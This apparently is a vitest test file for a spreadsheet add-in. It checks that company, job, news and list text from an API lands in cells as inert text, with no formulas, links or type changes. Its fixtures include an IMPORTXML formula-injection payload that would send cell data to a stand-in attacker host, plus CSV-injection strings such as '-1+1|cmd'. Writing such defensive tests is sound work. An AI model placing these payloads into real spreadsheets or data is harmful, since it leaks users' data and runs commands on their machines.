// Text from the API is never a formula or markup.
import { describe, expect, it } from "vitest";
import type { DemoReply } from "../../demo-api/wire";
import { HOSTILE_TEXTS } from "../../demo-api/hostile-text";
import { NO_ADDRESSES } from "../fakes/no-addresses";
import { SHAPE_SHIFTING_TEXTS } from "../fakes/shape-shifting-texts";
import { knownWebsites } from "../addin/companies-sent";
import { openAddin, websites, type OpenAddin } from "../addin/open-addin";

const [company = ""] = websites(1);
const LONG = "x".repeat(60_000);

describe("A text from the API is written as text", () => {
  it("from an enrichment, beside its company, whatever a spreadsheet would make of it", async () => {
    const companies = knownWebsites(SHAPE_SHIFTING_TEXTS.length);
    const addin = await openAddin({ column: ["Website", ...companies] });
    addin.spoil = (reply, url) => {
      const index = companies.findIndex((each) => url.includes(`company=${each}`));
      return index < 0 ? reply : replaced({ city: SHAPE_SHIFTING_TEXTS[index]! })(reply);
    };

    await addin.run({
      kind: "enrichment",
      sections: ["location"],
      range: `Sheet1!A2:A${companies.length + 1}`,
    });

    expect(addin.rows().map((row) => row["HQ city"])).toEqual(SHAPE_SHIFTING_TEXTS);
    expect(formulasIn(addin)).toEqual([]);
  });

  it("even if it has 60,000 characters and is visibly truncated", async () => {
    const addin = await openAddin({ column: ["Website", company] });
    addin.spoil = replaced({ city: LONG });

    await addin.run({ kind: "enrichment", sections: ["location"] });

    const city = String(addin.rows()[0]?.["HQ city"]);
    expect(city.length).toBeLessThanOrEqual(50_000);
    expect(city).toMatch(/x… \[cut]$/);
  });

  it("from job posts and news, on their own sheets", async () => {
    for (const [kind, field, header] of [
      ["jobs", "title", "Title"],
      ["news", "title", "Headline"],
    ] as const) {
      const addin = await openAddin({ column: ["Website", company] });
      let next = 0;
      addin.spoil = replaced({
        [field]: () => SHAPE_SHIFTING_TEXTS[next++ % SHAPE_SHIFTING_TEXTS.length] ?? "",
      });

      const done = await addin.run({ kind, limit: 20 });

      const sheet = addin.workbook.sheetNamed(done.sheetName)!;
      const shown = addin.rows(sheet).map((row) => row[header]);
      const count = shown.length;
      expect(count).toBeGreaterThan(10);
      // Each post got the next text, and the sheet may order its rows freely.
      const given = Array.from(
        { length: count },
        (_, post) => SHAPE_SHIFTING_TEXTS[post % SHAPE_SHIFTING_TEXTS.length] ?? "",
      );
      expect(countsOf(shown)).toEqual(countsOf(given));
      expect(formulasIn(addin)).toEqual([]);
    }
  });

  it("from a formula, and never evaluated", async () => {
    const addin = await openAddin();
    addin.spoil = replaced({ title: '=IMPORTXML("https://evil.example/?"&A1,"//a")' });

    const { sheet } = await addin.formula(`=COMPANY_JOBS("${company}",3,"title")`);

    const cells = sheet.getValues(sheet.dataRange).flat();
    expect(cells.filter((cell) => String(cell).startsWith("=IMPORTXML"))).toHaveLength(3);
    expect(formulasIn(addin)).toEqual([`=COMPANY_JOBS("${company}",3,"title")`]);
  });

  it("on the sheet of a list", async () => {
    const addin = await openAddin();
    addin.spoil = replaced({ name: SHAPE_SHIFTING_TEXTS[0]!, company_name: SHAPE_SHIFTING_TEXTS[0]! });

    const result = await addin.value("generateList", {
      filters: { "location.hq.country": ["DEU"] },
      limit: 5,
      creditCap: 10,
    });

    const sheet = addin.workbook.sheetNamed(result.sheetName)!;
    expect(sheet.lastRow).toBe(6);
    expect(sheet.getValues(sheet.dataRange).flat()).toContain(SHAPE_SHIFTING_TEXTS[0]);
    expect(formulasIn(addin)).toEqual([]);
  });
});

describe("An address that holds markup, or hides where it leads", () => {
  it("is a link neither in a cell nor in the brief, and is there as text", async () => {
    const addin = await openAddin({ column: ["Website", company] });
    let next = 0;
    addin.spoil = replaced({ url: () => NO_ADDRESSES[next++ % NO_ADDRESSES.length]! });

    const done = await addin.run({ kind: "news", limit: 50 });
    const brief = await addin.value("getBrief", { company });

    const sheet = addin.workbook.sheetNamed(done.sheetName)!;
    const shown = addin.rows(sheet).map((row) => row["Link"]);
    expect(next).toBeGreaterThan(NO_ADDRESSES.length / 2);
    expect(NO_ADDRESSES).toEqual(expect.arrayContaining(shown));
    expect(sheet.getLinks(sheet.dataRange).flat().filter(Boolean)).toEqual([]);
    expect(brief.articles.length).toBeGreaterThan(0);
    expect(brief.articles.filter(({ link }) => link !== undefined)).toEqual([]);
  });
});

describe("Replies in which every text is hostile", () => {
  it("run no formula and change no type, whatever asked for them", async () => {
    const addin = await openAddin();
    addin.api.faults.set([{ when: {}, reply: "hostile" }]);

    for (const kind of ["enrichment", "jobs", "news"] as const) {
      const sections = ["firmographic", "location", "technology", "management_profile", "funding_detail"];
      const done = await addin.run({ kind, sections, limit: 10 });
      expect(done).toMatchObject({ state: "done" });
    }
    await addin.sidebar("generateList", {
      filters: { "location.hq.country": ["DEU"] },
      limit: 5,
      creditCap: 10,
    });

    expect(formulasIn(addin)).toEqual([]);
    const cells = new Set(addin.workbook.sheets.flatMap((sheet) => sheet.getValues(sheet.dataRange).flat()));
    for (const text of ["11-50", "00123", "1e5", "-1+1|cmd", "'=1+1", "\t=1+1"]) {
      expect(HOSTILE_TEXTS).toContain(text);
      expect([...cells].some((cell) => typeof cell === "string" && cell.includes(text))).toBe(true);
    }
  });
});

/** Formulas anywhere in the workbook. */
function formulasIn({ workbook }: OpenAddin): string[] {
  return workbook.sheets.flatMap((sheet) => sheet.getFormulas(sheet.dataRange).flat().filter(Boolean));
}

/** Replaces texts of a reply by field name, at any depth. */
function replaced(fields: Record<string, string | (() => string)>): (reply: DemoReply) => DemoReply {
  return (reply) => {
    const body: unknown = JSON.parse(reply.body, (key, value: unknown) => {
      const text = fields[key];
      if (text === undefined || typeof value !== "string") return value;
      return typeof text === "function" ? text() : text;
    });
    return { ...reply, body: JSON.stringify(body) };
  };
}

function countsOf(values: readonly unknown[]): Map<unknown, number> {
  const counts = new Map<unknown, number>();
  for (const value of values) counts.set(value, (counts.get(value) ?? 0) + 1);
  return counts;
}
